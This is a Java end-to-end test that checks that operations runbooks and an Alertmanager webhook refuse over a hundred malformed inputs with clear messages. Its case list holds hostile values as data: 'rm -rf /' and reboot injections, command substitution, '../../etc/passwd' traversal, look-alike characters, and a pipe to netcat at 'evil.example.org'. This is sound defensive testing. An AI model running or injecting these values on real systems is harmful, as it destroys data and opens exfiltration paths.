package io.dayshift.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.dayshift.backup.Artefact;
import io.dayshift.backup.ArtefactKind;
import io.dayshift.backup.BackupCatalogue;
import io.dayshift.backup.BackupSet;
import io.dayshift.lab.model.LabSite;
import io.dayshift.testing.EndToEndFixture;
import io.dayshift.testing.Http;
import io.dayshift.testing.RunbookEndToEndTest;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.camunda.bpm.engine.RuntimeService;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/**
 * Bad inputs, as an ops lead types them into a start form in Tasklist ({@code submit-form}) or sends them over REST
 * ({@code start} with typed variables), and as Alertmanager's webhook might carry them: every case of {@link #CASES} is
 * refused, at once (HTTP 4xx with a message) or by the runbook at its {@code EndEvent_InputRejected} with a summary,
 * and either way the message names the field and says in words what is expected. No case reaches a host: each refused
 * run passed no step but its input check, no run raised an incident, and no lab site counted a changing action.
 * The figures go to {@code target/reliability/bad-inputs.csv} (the reliability document cites them), each case's
 * outcome to {@code target/reliability/bad-inputs-cases.csv}.
 */
@RunbookEndToEndTest(timeFactor = "0.01")
class BadInputsEndToEndTest extends EndToEndFixture {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Duration RUN_LIMIT = Duration.ofSeconds(30);
    private static final String ALERT_TOKEN = "bad-inputs-alert-token-7c1e";
    private static final String ALERTS = "/api/alerts/alertmanager";
    private static final String BACKUP_FILE = "mysqlbackup-nightly.qp.xbc.xbs.gz";
    private static final String LONG = "a".repeat(300);
    private static final String LONGER = "x".repeat(5000);
    private static final Instant NOW = Instant.now().truncatedTo(ChronoUnit.SECONDS);

    /** The runbooks with a start form, each with an input it accepts; a case changes one field of it. */
    private static final Map<String, Map<String, Object>> GOOD = new LinkedHashMap<>();

    static {
        GOOD.put("add-compute-node", Map.of("site", "lab", "machine", "spare01", "availabilityZone", "az1"));
        GOOD.put("backup-site", Map.of("site", "lab", "scope", "full"));
        GOOD.put("commission-machines", Map.of("site", "lab", "machines", "new01,spare02", "tags", "openstack-compute", "testingScripts", ""));
        GOOD.put("dr-restore", Map.of("site", "lab", "backupId", "(recorded before the cases)", "scope", "database"));
        GOOD.put("drain-compute-node", Map.of("site", "lab", "host", "cn01", "reason", "firmware update, OPS-4711"));
        GOOD.put("return-compute-node", Map.of("site", "lab", "host", "cn01", "reason", "firmware updated, OPS-4711"));
        GOOD.put("rolling-upgrade", Map.of("site", "lab", "targetRelease", "2024.1", "batchSize", 1L,
                "windowStart", NOW.minus(Duration.ofMinutes(1)).toString(), "windowEnd", NOW.plus(Duration.ofHours(4)).toString(), "canaryHost", "cn06"));
        GOOD.put("sev1-incident", Map.of("site", "lab", "summary", "cn03 is down"));
        GOOD.put("site-health-check", Map.of("site", "lab"));
    }

    /** A value of the wrong type: the engine's REST type and the JSON value. */
    record Typed(String type, Object value) {
        @Override
        public String toString() {
            return type + " " + value;
        }
    }

    private static Typed typed(String type, Object value) {
        return new Typed(type, value);
    }

    /** One bad input: where it goes (a runbook key, or {@code alert}), the field, the value, and why it is bad. */
    record Case(String target, String field, Object value, String why) {
        @Override
        public String toString() {
            return target + " " + field + "=" + shown(value) + " (" + why + ")";
        }
    }

    private static Case bad(String target, String field, Object value, String why) {
        return new Case(target, field, value, why);
    }

    /** What every runbook's site field is given. */
    private static final List<Case> SITE_CASES = List.of(
            bad("", "site", "lab; rm -rf /", "shell metacharacters"),
            bad("", "site", "--all", "option injection"),
            bad("", "site", "nowhere", "unknown site"),
            bad("", "site", "", "empty"),
            bad("", "site", "   ", "blank"),
            bad("", "site", "l\u0430b", "look-alike: Cyrillic a"),
            bad("", "site", typed("Long", 42), "wrong type: a number"));

    /** Every case, read as a list: target, field, value, why. */
    static final List<Case> CASES = new ArrayList<>();

    static {
        GOOD.keySet().forEach(runbook -> SITE_CASES.forEach(c -> CASES.add(bad(runbook, c.field(), c.value(), c.why()))));
        CASES.addAll(List.of(
                bad("drain-compute-node", "host", "cn01; rm -rf /", "shell metacharacters"),
                bad("drain-compute-node", "host", "`reboot`", "backticks"),
                bad("drain-compute-node", "host", "$(reboot)", "command substitution"),
                bad("drain-compute-node", "host", "cn01 | nc evil.example.org 4444", "pipe"),
                bad("drain-compute-node", "host", "cn01\nreboot", "newline"),
                bad("drain-compute-node", "host", "cn01' ; reboot '", "quotes"),
                bad("drain-compute-node", "host", "-rf", "option injection"),
                bad("drain-compute-node", "host", "--all", "option injection"),
                bad("drain-compute-node", "host", "cn99", "unknown host"),
                bad("drain-compute-node", "host", "\u0441n01", "look-alike: Cyrillic c"),
                bad("drain-compute-node", "host", "cn\uff101", "look-alike: full-width digit"),
                bad("drain-compute-node", "host", "cn\u200b01", "zero-width space"),
                bad("drain-compute-node", "host", "\u202ecn01", "right-to-left override"),
                bad("drain-compute-node", "host", "cn01\u200f", "right-to-left mark"),
                bad("drain-compute-node", "host", LONG, "oversized"),
                bad("drain-compute-node", "host", "", "empty"),
                bad("drain-compute-node", "host", typed("Boolean", true), "wrong type: a boolean"),
                bad("drain-compute-node", "host", typed("Json", "[\"cn01\",\"cn02\"]"), "wrong type: a list"),
                bad("drain-compute-node", "reason", "", "empty"),
                bad("drain-compute-node", "reason", "maintenance\nrm -rf /", "newline"),
                bad("drain-compute-node", "reason", LONG, "oversized (Nova keeps 255)"),
                bad("drain-compute-node", "reason", typed("Long", 7), "wrong type: a number"),
                bad("return-compute-node", "host", "cn01 && reboot", "shell metacharacters"),
                bad("return-compute-node", "host", "-f", "option injection"),
                bad("return-compute-node", "host", "cn01\n", "newline"),
                bad("return-compute-node", "host", "cn99", "unknown host"),
                bad("return-compute-node", "host", typed("Long", 1), "wrong type: a number"),
                bad("return-compute-node", "reason", "   ", "blank"),
                bad("return-compute-node", "reason", typed("Boolean", false), "wrong type: a boolean"),
                bad("add-compute-node", "machine", "spare01;reboot", "shell metacharacters"),
                bad("add-compute-node", "machine", "$(id)", "command substitution"),
                bad("add-compute-node", "machine", "--force", "option injection"),
                bad("add-compute-node", "machine", "spare\uff101", "look-alike: full-width digit"),
                bad("add-compute-node", "machine", "ghost07", "unknown machine"),
                bad("add-compute-node", "machine", "", "empty"),
                bad("add-compute-node", "machine", typed("Json", "[\"spare01\"]"), "wrong type: a list"),
                bad("add-compute-node", "availabilityZone", "az1; rm -rf /", "shell metacharacters"),
                bad("add-compute-node", "availabilityZone", "-all", "option injection"),
                bad("add-compute-node", "availabilityZone", LONG, "oversized"),
                bad("add-compute-node", "availabilityZone", typed("Long", 1), "wrong type: a number"),
                bad("backup-site", "scope", "full; rm -rf /", "shell metacharacters"),
                bad("backup-site", "scope", "--all", "option injection"),
                bad("backup-site", "scope", "everything", "not an offered choice"),
                bad("backup-site", "scope", "full\u200b", "zero-width space"),
                bad("backup-site", "scope", typed("Long", 1), "wrong type: a number"),
                bad("commission-machines", "machines", "new01;reboot", "shell metacharacters"),
                bad("commission-machines", "machines", "new01,`id`", "backticks"),
                bad("commission-machines", "machines", "-rf", "option injection"),
                bad("commission-machines", "machines", "new01,--all", "option injection in a list"),
                bad("commission-machines", "machines", "ghost01", "unknown machine"),
                bad("commission-machines", "machines", "", "empty"),
                bad("commission-machines", "machines", "new01\u200b", "zero-width space"),
                bad("commission-machines", "machines", typed("Json", "[\"new01\"]"), "wrong type: a list"),
                bad("commission-machines", "tags", "batch;rm -rf /", "shell metacharacters"),
                bad("commission-machines", "tags", "--all", "option injection"),
                bad("commission-machines", "tags", "batch$(id)", "command substitution"),
                bad("commission-machines", "testingScripts", "smartctl-validate;reboot", "shell metacharacters"),
                bad("commission-machines", "testingScripts", "-rf", "option injection"),
                bad("commission-machines", "testingScripts", typed("Boolean", true), "wrong type: a boolean"),
                bad("dr-restore", "backupId", "x; rm -rf /", "shell metacharacters"),
                bad("dr-restore", "backupId", "../../etc/passwd", "path traversal"),
                bad("dr-restore", "backupId", "--all", "option injection"),
                bad("dr-restore", "backupId", "no-such-backup", "unknown backup"),
                bad("dr-restore", "backupId", "", "empty"),
                bad("dr-restore", "backupId", typed("Long", 12), "wrong type: a number"),
                bad("dr-restore", "scope", "database;reboot", "shell metacharacters"),
                bad("dr-restore", "scope", "everything", "not an offered choice"),
                bad("dr-restore", "scope", typed("Boolean", true), "wrong type: a boolean"),
                bad("rolling-upgrade", "targetRelease", "2024.1; reboot", "shell metacharacters"),
                bad("rolling-upgrade", "targetRelease", "--all", "option injection"),
                bad("rolling-upgrade", "targetRelease", "latest", "not a release"),
                bad("rolling-upgrade", "targetRelease", "", "empty"),
                bad("rolling-upgrade", "targetRelease", typed("Long", 2024), "wrong type: a number"),
                bad("rolling-upgrade", "batchSize", "two", "wrong type: text"),
                bad("rolling-upgrade", "batchSize", typed("Long", 0), "below the minimum"),
                bad("rolling-upgrade", "batchSize", typed("Long", 999), "above the maximum"),
                bad("rolling-upgrade", "batchSize", typed("Long", -1), "negative"),
                bad("rolling-upgrade", "batchSize", typed("Boolean", true), "wrong type: a boolean"),
                bad("rolling-upgrade", "windowStart", "yesterday", "not a time"),
                bad("rolling-upgrade", "windowStart", "", "empty"),
                bad("rolling-upgrade", "windowEnd", "now; reboot", "shell metacharacters"),
                bad("rolling-upgrade", "windowEnd", typed("Long", 1), "wrong type: a number"),
                bad("rolling-upgrade", "canaryHost", "cn06; reboot", "shell metacharacters"),
                bad("rolling-upgrade", "canaryHost", "-rf", "option injection"),
                bad("rolling-upgrade", "canaryHost", "cn99", "unknown host"),
                bad("rolling-upgrade", "canaryHost", "\u0441n06", "look-alike: Cyrillic c"),
                bad("sev1-incident", "summary", "", "empty"),
                bad("sev1-incident", "summary", LONGER, "oversized"),
                bad("sev1-incident", "summary", "cn03 down\nrm -rf /", "newline"),
                bad("sev1-incident", "summary", typed("Long", 5), "wrong type: a number"),
                bad("sev1-incident", "summary", typed("Json", "[\"cn03\"]"), "wrong type: a list"),
                // the alert intake: the field is the JSON path its answer names
                bad("alert", "body", "{\"version\": \"4\", \"alerts\": [", "malformed JSON"),
                bad("alert", "body", "[]", "not a JSON object"),
                bad("alert", "alerts", "{\"version\":\"4\",\"status\":\"firing\"}", "alerts missing"),
                bad("alert", "version", alert("\"5\"", "firing", "lab", "5f3a9c2b1e7d4a61", "2026-11-21T09:59:30Z"), "unknown payload version"),
                bad("alert", "status", alert("\"4\"", "burning", "lab", "5f3a9c2b1e7d4a62", "2026-11-21T09:59:30Z"), "unknown status"),
                bad("alert", "fingerprint", alert("\"4\"", "firing", "lab", "abc; rm -rf /", "2026-11-21T09:59:30Z"), "shell metacharacters"),
                bad("alert", "fingerprint", alert("\"4\"", "firing", "lab", "-rf", "2026-11-21T09:59:30Z"), "option injection"),
                bad("alert", "startsAt", alert("\"4\"", "firing", "lab", "5f3a9c2b1e7d4a63", "yesterday"), "not a time"),
                bad("alert", "labels", alert("\"4\"", "firing", "lab", "5f3a9c2b1e7d4a64", "2026-11-21T09:59:30Z")
                        .replace("\"labels\":{", "\"labels\":{\"nested\":[1],"), "wrong type: a list"),
                bad("alert", "site", alert("\"4\"", "firing", "lab; rm -rf /", "5f3a9c2b1e7d4a65", "2026-11-21T09:59:30Z"), "shell metacharacters"),
                bad("alert", "site", alert("\"4\"", "firing", "nowhere", "5f3a9c2b1e7d4a66", "2026-11-21T09:59:30Z"), "unknown site"),
                bad("alert", "site", alert("\"4\"", "firing", "l\u0430b", "5f3a9c2b1e7d4a67", "2026-11-21T09:59:30Z"), "look-alike: Cyrillic a"),
                bad("alert", "site", alert("\"4\"", "firing", "", "5f3a9c2b1e7d4a68", "2026-11-21T09:59:30Z"), "empty"),
                bad("alert", "labels", alert("\"4\"", "firing", "lab", "5f3a9c2b1e7d4a69", "2026-11-21T09:59:30Z")
                        .replace("\"labels\":{", "\"labels\":{\"instance\":\"" + LONGER + "\","), "oversized"),
                bad("alert", "summary", alert("\"4\"", "firing", "lab", "5f3a9c2b1e7d4a70", "2026-11-21T09:59:30Z")
                        .replace("cn03 is down", LONGER), "oversized")));
    }

    @DynamicPropertySource
    static void service(DynamicPropertyRegistry registry) {
        registry.add("dayshift.alerts.token", () -> ALERT_TOKEN);
    }

    @Autowired
    BackupCatalogue catalogue;
    @Autowired
    RuntimeService runtime;

    /** What became of each case, in order. */
    private static final List<String> OUTCOMES = new ArrayList<>();
    private static int refusedAtStart;
    private static int refusedByRunbook;

    @TestFactory
    Stream<DynamicTest> everyBadInputIsRefusedWithAMessageNamingTheFieldAndNoneReachesAHost() {
        Http olga = user("olga", "ops-leads");
        Http alertmanager = Http.bearer(port, ALERT_TOKEN);
        Map<String, Map<String, Long>> before = changingActions();
        List<DynamicTest> tests = new ArrayList<>();
        for (int i = 0; i < CASES.size(); i++) {
            Case c = CASES.get(i);
            boolean form = i % 2 == 0; // every other case as Tasklist submits its form, the others as a REST start
            tests.add(DynamicTest.dynamicTest(c.toString(), () -> {
                if (c.target().equals("alert")) {
                    refusedByTheAlertIntake(alertmanager, olga, c);
                } else {
                    refusedByTheRunbookOrAtStart(olga, c, form);
                }
            }));
        }
        assertThat(CASES).hasSizeGreaterThanOrEqualTo(100);
        assertThat(CASES.stream().filter(c -> !c.target().equals("alert")).map(Case::target).distinct()).containsExactlyInAnyOrderElementsOf(GOOD.keySet());
        tests.add(DynamicTest.dynamicTest("no lab site counted a changing action; the figures are written", () -> {
            assertThat(before.values()).allSatisfy(counts -> assertThat(counts).isEmpty());
            assertThat(changingActions()).isEqualTo(before);
            writeFigures();
        }));
        return tests.stream();
    }

    private void refusedByTheRunbookOrAtStart(Http olga, Case c, boolean form) throws Exception {
        ObjectNode variables = JSON.createObjectNode();
        GOOD.get(c.target()).forEach((name, value) -> variables.set(name, restValue(name.equals("backupId") ? backupId() : value)));
        variables.set(c.field(), restValue(c.value()));
        String path = "/engine-rest/process-definition/key/" + c.target() + (form ? "/submit-form" : "/start");
        HttpResponse<String> started = olga.postJson(path, JSON.createObjectNode().set("variables", variables).toString());
        if (started.statusCode() != 200) {
            assertThat(started.statusCode()).as("%s: %s", c, started.body()).isBetween(400, 499);
            String message = JSON.readTree(started.body()).path("message").asText();
            assertNamesTheField(c, message);
            record(c, form ? "submit-form" : "start", "refused at start (" + started.statusCode() + ")", message);
            refusedAtStart++;
            return;
        }
        String run = JSON.readTree(started.body()).path("id").asText();
        try {
            refusedByTheRunbook(olga, c, run, form);
        } catch (AssertionError | RuntimeException e) {
            // a run that was not refused must not hold its site or host for the cases after it
            if (runtime.createProcessInstanceQuery().processInstanceId(run).count() > 0) {
                runtime.deleteProcessInstance(run, "bad-inputs test: " + c + " was not refused");
            }
            throw e;
        }
    }

    private void refusedByTheRunbook(Http olga, Case c, String run, boolean form) throws Exception {
        JsonNode ended = awaitEnded(olga, run, c);
        assertThat(ended.path("state").asText()).as("%s", c).isEqualTo("COMPLETED");
        JsonNode ends = JSON.readTree(olga.get("/engine-rest/history/activity-instance?processInstanceId=" + run + "&activityType=noneEndEvent").body());
        assertThat(ends).as("%s: where the run ended", c).extracting(e -> e.path("activityId").asText()).containsExactly("EndEvent_InputRejected");
        JsonNode tasks = JSON.readTree(olga.get("/engine-rest/history/activity-instance?processInstanceId=" + run + "&activityType=serviceTask").body());
        assertThat(tasks).as("%s: the steps the run took", c).extracting(t -> t.path("activityId").asText()).containsExactly("Task_ValidateInput");
        JsonNode summary = JSON.readTree(olga.get("/engine-rest/history/variable-instance?processInstanceId=" + run + "&variableName=summary").body());
        assertThat(summary).as("%s: its summary", c).hasSize(1);
        assertNamesTheField(c, summary.get(0).path("value").asText());
        record(c, form ? "submit-form" : "start", "refused by the runbook", summary.get(0).path("value").asText());
        refusedByRunbook++;
    }

    private void refusedByTheAlertIntake(Http alertmanager, Http olga, Case c) throws Exception {
        long runsBefore = runsOf(olga, "sev1-incident");
        HttpResponse<String> answer = alertmanager.postJson(ALERTS, (String) c.value());
        String message;
        if (answer.statusCode() == 200) {
            JsonNode outcomes = JSON.readTree(answer.body()).path("outcomes");
            assertThat(outcomes).as("%s: %s", c, answer.body()).isNotEmpty()
                    .allSatisfy(o -> assertThat(o.path("result").asText()).isEqualTo("IGNORED"));
            message = outcomes.get(0).path("reason").asText();
        } else {
            assertThat(answer.statusCode()).as("%s: %s", c, answer.body()).isEqualTo(400);
            message = JSON.readTree(answer.body()).path("problems").toString();
        }
        assertNamesTheField(c, message);
        assertThat(runsOf(olga, "sev1-incident")).as("%s: runs started", c).isEqualTo(runsBefore);
        record(c, "webhook", "refused at intake (" + answer.statusCode() + ")", message);
        refusedAtStart++;
    }

    /**
     * The message names the field and says what is expected in words, never as a regular expression; and it never
     * repeats an invisible or look-alike character of the value as it is (a reader could not tell why {@code cn01} was
     * refused, and a right-to-left mark would reorder the text around it): such characters are shown escaped.
     */
    private static void assertNamesTheField(Case c, String message) {
        assertThat(message).as("%s: the message", c).isNotBlank().contains(c.field()).doesNotContain("[A-Za-z").doesNotContain("{0,")
                .doesNotContain("Exception");
        // no regular expression's syntax in the words around the quoted value (which may hold '$(reboot)' itself)
        String words = message.replace(String.valueOf(c.value()), "");
        assertThat(words).as("%s: the message in words", c).doesNotContain("^").doesNotContain("[a-z").doesNotContain("\\d").doesNotContain("$");
        String.valueOf(c.value()).codePoints().filter(cp -> cp > 0x7e).forEach(cp ->
                assertThat(message.codePoints().noneMatch(m -> m == cp)).as("%s: the message %s shows U+%04X as it is", c, message, cp).isTrue());
    }

    private JsonNode awaitEnded(Http user, String run, Case c) throws InterruptedException, IOException {
        Instant deadline = Instant.now().plus(RUN_LIMIT);
        while (true) {
            JsonNode found = JSON.readTree(user.get("/engine-rest/history/process-instance/" + run).body());
            if (!found.path("endTime").isNull() && !found.path("endTime").isMissingNode()) {
                return found;
            }
            assertThat(JSON.readTree(user.get("/engine-rest/incident?processInstanceId=" + run).body())).as("%s: incidents", c).isEmpty();
            JsonNode failing = JSON.readTree(admin().get("/engine-rest/job?processInstanceId=" + run + "&withException=true").body());
            assertThat(failing).as("%s: failed jobs", c).isEmpty();
            if (Instant.now().isAfter(deadline)) {
                throw new AssertionError(c + ": run " + run + " did not end within " + RUN_LIMIT + ": " + found);
            }
            Thread.sleep(100);
        }
    }

    private static long runsOf(Http user, String key) throws IOException {
        return JSON.readTree(user.get("/engine-rest/history/process-instance/count?processDefinitionKey=" + key).body()).path("count").asLong();
    }

    /** Every lab site's changing actions, the backup stores' included. */
    private Map<String, Map<String, Long>> changingActions() {
        Map<String, Map<String, Long>> counts = new LinkedHashMap<>();
        for (LabSite site : lab.all()) {
            counts.put(site.name(), site.destructiveActions());
            LabSite store = lab.backupStore(site.name());
            counts.put(store.name(), store.destructiveActions());
        }
        return counts;
    }

    private String recordedBackup;

    /** A backup of the lab site in the catalogue, whose artefact the lab holds: the good backupId of dr-restore. */
    private String backupId() {
        if (recordedBackup == null) {
            LabSite site = lab.require("lab");
            Map<String, Long> rows = site.backup().tableRowsAt("volume:mariadb_backup/" + BACKUP_FILE).orElseThrow();
            Instant startedAt = Instant.now().minus(Duration.ofHours(8));
            recordedBackup = BackupSet.idFor("lab", startedAt);
            Artefact artefact = new Artefact(ArtefactKind.MARIADB_FULL, "cc01", "/var/lib/docker/volumes/mariadb_backup/_data/" + BACKUP_FILE,
                    157286400, "cd".repeat(32), Instant.now().minus(Duration.ofHours(7)), true, rows);
            catalogue.record(new BackupSet(recordedBackup, "lab", "kolla", "databases", "backup-run-" + recordedBackup, startedAt,
                    startedAt.plusSeconds(900), List.of(artefact), List.of()));
        }
        return recordedBackup;
    }

    private static JsonNode restValue(Object value) {
        ObjectNode node = JSON.createObjectNode();
        if (value instanceof Typed t) {
            node.put("type", t.type());
            node.set("value", JSON.valueToTree(t.value()));
        } else if (value instanceof Long number) {
            node.put("type", "Long");
            node.put("value", number);
        } else {
            node.put("value", (String) value);
        }
        return node;
    }

    /** An Alertmanager notification of one alert (payload version "4") with the given parts. */
    private static String alert(String version, String status, String site, String fingerprint, String startsAt) {
        ObjectNode labels = JSON.createObjectNode().put("alertname", "HypervisorDown").put("severity", "critical").put("site", site);
        return """
                {"version":%s,"status":"firing","receiver":"dayshift","groupKey":"{}","groupLabels":{},"commonLabels":{},
                 "commonAnnotations":{},"externalURL":"http://alertmanager:9093",
                 "alerts":[{"status":"%s","labels":%s,"annotations":{"summary":"cn03 is down"},"startsAt":"%s",
                            "endsAt":"0001-01-01T00:00:00Z","generatorURL":"","fingerprint":"%s"}]}"""
                .formatted(version, status, labels, startsAt, fingerprint);
    }

    private static void record(Case c, String via, String outcome, String message) {
        OUTCOMES.add(String.join(",", csv(c.target()), csv(c.field()), csv(c.why()), csv(shown(c.value())), via, csv(outcome),
                csv(message.length() > 300 ? message.substring(0, 300) + "…" : message)));
    }

    private static void writeFigures() throws IOException {
        Path dir = Path.of("target", "reliability");
        Files.createDirectories(dir);
        Files.writeString(dir.resolve("bad-inputs.csv"), "total,refused_at_start,refused_by_runbook,runbooks,alert_cases\n"
                + CASES.size() + "," + refusedAtStart + "," + refusedByRunbook + "," + GOOD.size() + ","
                + CASES.stream().filter(c -> c.target().equals("alert")).count() + "\n");
        Files.writeString(dir.resolve("bad-inputs-cases.csv"), "target,field,why,value,via,outcome,message\n" + String.join("\n", OUTCOMES) + "\n");
        assertThat(refusedAtStart + refusedByRunbook).isEqualTo(CASES.size());
    }

    private static String csv(String text) {
        return "\"" + text.replace("\"", "\"\"").replace("\n", "\\n") + "\"";
    }

    /** A value as a case's name shows it: control, invisible and non-ASCII characters as \\uXXXX, long values cut. */
    private static String shown(Object value) {
        String text = String.valueOf(value);
        StringBuilder out = new StringBuilder();
        text.codePoints().limit(40).forEach(cp -> {
            if (cp >= 0x20 && cp < 0x7f) {
                out.appendCodePoint(cp);
            } else {
                out.append(String.format("\\u%04x", cp));
            }
        });
        return text.length() > 40 ? out + "…(" + text.length() + ")" : out.toString();
    }
}
